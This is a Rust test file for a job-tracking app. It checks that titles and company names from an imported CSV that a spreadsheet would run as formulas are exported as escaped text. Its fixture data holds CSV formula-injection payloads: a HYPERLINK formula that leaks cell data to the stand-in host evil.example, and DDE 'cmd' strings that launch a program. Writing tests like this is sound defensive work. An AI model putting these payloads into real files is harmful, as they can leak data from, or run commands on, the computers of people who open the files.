//! Titles and companies from an imported file that a spreadsheet would run as formulas are
//! written to the CSV export as text.

use jobhound_core::Jobhound;
use jobhound_core::your_data::ImportFrom;
use jobhound_core::your_data::{CSV_HEADER, ExportFormat};

const JOBSPY_HEADER: &str = "id,site,job_url,job_url_direct,title,company,location,date_posted,job_type,salary_source,interval,min_amount,max_amount,currency,is_remote,job_level,job_function,listing_type,emails,description,company_industry,company_url,company_logo,company_url_direct,company_addresses,company_num_employees,company_revenue,company_description,skills,experience_range,company_rating,company_reviews_count,vacancy_count,work_from_home_type";

#[test]
fn formula_cells_from_an_imported_file_are_exported_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let app = Jobhound::open(&dir.path().join("data")).unwrap();
    #[rustfmt::skip]
    let hostile = [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Acme"),
        ("Engineer", "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "Beta"),
        ("-2+3", "Gamma"),
        ("Analyst", "=1+1"),
    ];
    let mut csv = JOBSPY_HEADER.to_string();
    for (n, (title, company)) in hostile.iter().enumerate() {
        let quote = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
        csv.push_str(&format!(
            "\nin-{n},indeed,https://www.indeed.com/viewjob?jk=f{n},,{},{},\"=2+5, Berlin\",2026-11-20,fulltime,,,,,,False,,,,,\"A job.\",,,,,,,,,,,,,,",
            quote(title),
            quote(company)
        ));
    }
    let path = dir.path().join("found.csv");
    std::fs::write(&path, csv).unwrap();
    assert_eq!(app.import_file(ImportFrom::Jobspy, &path).unwrap().new_jobs, hostile.len() as u32);

    let out = dir.path().join("jobs.csv");
    app.export_data(ExportFormat::Csv, &out).unwrap();
    let mut reader = csv::Reader::from_path(&out).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), hostile.len());
    let column = |name: &str| CSV_HEADER.iter().position(|c| *c == name).unwrap();
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "a formula cell was written: {cell:?}");
        }
    }
    // The text itself is kept, behind the apostrophe spreadsheets hide.
    for (title, company) in hostile {
        let row = rows
            .iter()
            .find(|row| row[column("title")].trim_start_matches('\'') == title)
            .unwrap_or_else(|| panic!("{title} was exported"));
        assert_eq!(row[column("company")].trim_start_matches('\''), company);
    }
    assert!(rows.iter().any(|row| &row[column("title")] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"));
    assert!(rows.iter().any(|row| &row[column("title")] == "Engineer"), "ordinary cells are unchanged");
}
